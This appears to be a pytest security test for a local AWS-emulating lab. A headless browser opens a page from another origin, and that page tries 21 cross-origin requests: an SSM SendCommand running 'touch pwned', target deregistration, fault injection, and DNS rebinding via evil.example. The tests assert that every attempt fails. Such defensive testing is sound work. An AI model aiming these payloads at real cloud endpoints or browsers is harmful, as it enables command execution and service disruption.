"""A web page of another origin in a real browser, which tries everything a page can do against a running lab."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from tests.lab.conftest import Clients

from katakei.lab.options import LabOptions
from katakei.lab.process import Lab

pytestmark = pytest.mark.lab

PAGE = """<!DOCTYPE html><meta charset="utf-8"><body><script>
const lab = "{endpoint}", target = "{target}", found = [];
const command = JSON.stringify({{DocumentName: "AWS-RunShellScript", InstanceIds: [target],
  Parameters: {{commands: ["touch pwned"]}}}});
const scope = service => "AWS4-HMAC-SHA256 Credential=lab/20261128/ap-northeast-1/" + service +
  "/aws4_request, SignedHeaders=host, Signature=" + "0".repeat(64);
const aws = {{Authorization: scope("ssm"), "X-Amz-Target": "AmazonSSM.SendCommand",
  "Content-Type": "application/x-amz-json-1.1"}};
const form = {{Authorization: scope("elasticloadbalancing"), "Content-Type": "application/x-www-form-urlencoded"}};
const deregister = "Action=DeregisterTargets&Version=2015-12-01&TargetGroupArn={group}&Targets.member.1.Id=" + target;

// Whatever a page can read of an answer, or hears of a success, is reported.
async function tried(name, act) {{
  const late = new Promise(end => setTimeout(end, 4000, "late"));
  try {{
    const heard = await Promise.race([act(), late]);
    if (heard instanceof Response && heard.type !== "opaque") found.push(name + ": " + heard.status);
    if (heard === "open" || heard === "loaded") found.push(name + ": " + heard);
  }} catch (error) {{ }}
}}
const loaded = element => new Promise((end, fail) => {{
  element.onload = () => end("loaded"); element.onerror = fail; document.body.append(element);
}});
const opened = one => new Promise((end, fail) => {{
  one.onopen = () => end("open"); one.onmessage = () => end("open"); one.onerror = fail;
}});
function submitted(path, kind, name, value) {{
  return new Promise(end => {{
    const frame = document.createElement("iframe"), sent = document.createElement("form");
    frame.name = "f" + Math.random();
    document.body.append(frame, sent);
    Object.assign(sent, {{action: lab + path, method: "post", enctype: kind, target: frame.name}});
    const field = document.createElement("input");
    field.name = name; field.value = value;
    sent.append(field);
    frame.onload = () => end("submitted");
    sent.submit();
  }});
}}
const faults = '{{"throttle": 1}}';
const sandboxed = `<script>
  for (const [path, body] of [["/_lab/faults", '{{"throttle": 1}}'], ["/moto-api/reset", ""]])
    fetch("{endpoint}" + path, {{method: "POST", mode: "no-cors", body}});
</scr` + `ipt>`;
(async () => {{
  const all = [
    tried("send command", () => fetch(lab, {{method: "POST", headers: aws, body: command}})),
    tried("deregister", () => fetch(lab, {{method: "POST", headers: form, body: deregister}})),
  ];
  await Promise.all(all);  // before faults that could hide it
  all.push(
    tried("simple POST", () => fetch(lab + "/_lab/faults", {{method: "POST", mode: "no-cors", body: faults,
      headers: {{"Content-Type": "text/plain"}}}})),
    tried("credentials", () => fetch(lab + "/_lab/faults", {{method: "POST", body: faults, credentials: "include",
      headers: {{"Content-Type": "text/plain"}}}})),
    tried("PUT", () => fetch(lab + "/_lab/faults", {{method: "PUT", body: faults}})),
    tried("key", () => fetch(lab + "/_lab/faults", {{method: "POST", body: faults,
      headers: {{"X-Katakei-Lab-Key": "lab"}}}})),
    tried("read", () => fetch(lab + "/_lab/targets")),
    tried("read opaque", () => fetch(lab + "/_lab/targets", {{mode: "no-cors"}})),
    tried("deregister by URL", () => fetch(lab + "/?" + deregister + "&X-Amz-Signature=0", {{mode: "no-cors"}})),
    tried("put object", () => fetch(lab + "/bucket/key", {{method: "PUT", body: "x"}})),
    tried("reset moto", () => fetch(lab + "/moto-api/reset", {{method: "POST", mode: "no-cors"}})),
    tried("beacon", async () => navigator.sendBeacon(lab + "/_lab/faults", faults) && "sent"),
    tried("XMLHttpRequest", () => new Promise((end, fail) => {{
      const sent = new XMLHttpRequest();
      sent.open("POST", lab + "/_lab/faults");
      sent.onload = () => end("loaded"); sent.onerror = fail;
      sent.send(faults);
    }})),
    tried("image", () => loaded(Object.assign(new Image(), {{src: lab + "/_lab/faults"}}))),
    tried("script", () => loaded(Object.assign(document.createElement("script"), {{src: lab + "/_lab/targets"}}))),
    tried("style", () => loaded(Object.assign(document.createElement("link"),
      {{rel: "stylesheet", href: lab + "/_lab/targets"}}))),
    tried("web socket", () => opened(new WebSocket(lab.replace("http", "ws") + "/_lab/faults"))),
    tried("event source", () => opened(new EventSource(lab + "/_lab/calls"))),
    tried("form", () => submitted("/_lab/faults", "text/plain", '{{"throttle": 1, "deny": ["', '"]}}')),
    tried("form to AWS", () => submitted("/", "application/x-www-form-urlencoded", "Action", "DescribeInstances")),
    tried("null origin", async () => document.body.append(Object.assign(document.createElement("iframe"),
      {{sandbox: "allow-scripts", srcdoc: sandboxed}}))),
  );
  await Promise.all(all);
  await new Promise(end => setTimeout(end, 1000));
  await fetch("/found", {{method: "POST", body: JSON.stringify({{tried: all.length, found}})}});
}})();
</script>"""


class Attacker(ThreadingHTTPServer):
    """Another origin: it serves one page and waits for what the page has found."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        self.page = page.encode()
        self.found: dict[str, Any] = {}
        self.heard = threading.Event()
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        self._answer(self.server.page if self.path == "/" else b"")

    def do_POST(self) -> None:
        self.server.found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")
        self.server.heard.set()

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name is the library's
        pass


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    with Lab(LabOptions(targets=2, delay=timedelta(seconds=60), interval=timedelta(seconds=5))) as running:
        yield running


def words(folder: Path, *more: str) -> list[str]:
    """The command line of a headless Chromium."""
    browser = shutil.which("chromium")
    assert browser, "the tests need chromium: make packages installs it"
    quiet = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-proxy-server")
    return [browser, *quiet, f"--user-data-dir={folder}/profile", *more]


@contextmanager
def visiting(folder: Path, url: str) -> Iterator[None]:
    """A browser with this page open while the context lasts."""
    command = words(folder, "--remote-debugging-port=0", url)
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
        try:
            yield
        finally:
            process.kill()


def test_page_of_another_origin_changes_and_reads_nothing(lab: Lab, tmp_path: Path) -> None:
    clients, target = Clients(lab.env), lab.targets[0]
    before = len(lab.calls())
    page = PAGE.format(endpoint=lab.endpoint, target=target.id, group=lab.target_group_arn)
    attacker = Attacker(page)
    serving = threading.Thread(target=attacker.serve_forever, args=(0.05,), daemon=True)
    serving.start()
    try:
        with visiting(tmp_path, f"http://127.0.0.1:{attacker.server_port}/"):
            assert attacker.heard.wait(60), "the page did not run to its end"
    finally:
        attacker.shutdown()
        attacker.server_close()
        serving.join(5)
    assert not (Path(target.folder) / "pwned").exists()
    calls = lab.calls()[before:]
    assert [call for call in calls if call["status"] < 400] == []
    faults = lab.faults()
    assert (faults["throttle"], faults["deny"]) == (0, [])
    states = clients.health(lab.target_group_arn)
    assert {state for state, _, _ in states.values()} == {"healthy"}
    assert len(clients.get("ec2").describe_instances()["Reservations"]) == len(lab.targets)
    assert attacker.found == {"tried": 21, "found": []}


def test_host_name_that_resolves_to_the_lab_reads_nothing(lab: Lab, tmp_path: Path) -> None:
    parts = urlsplit(lab.endpoint)
    url = f"http://evil.example:{parts.port}/_lab/targets"
    done = subprocess.run(
        words(tmp_path, "--host-resolver-rules=MAP evil.example 127.0.0.1", "--dump-dom", url),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "127.0.0.1 and localhost only" in done.stdout
    assert lab.targets[0].id not in done.stdout
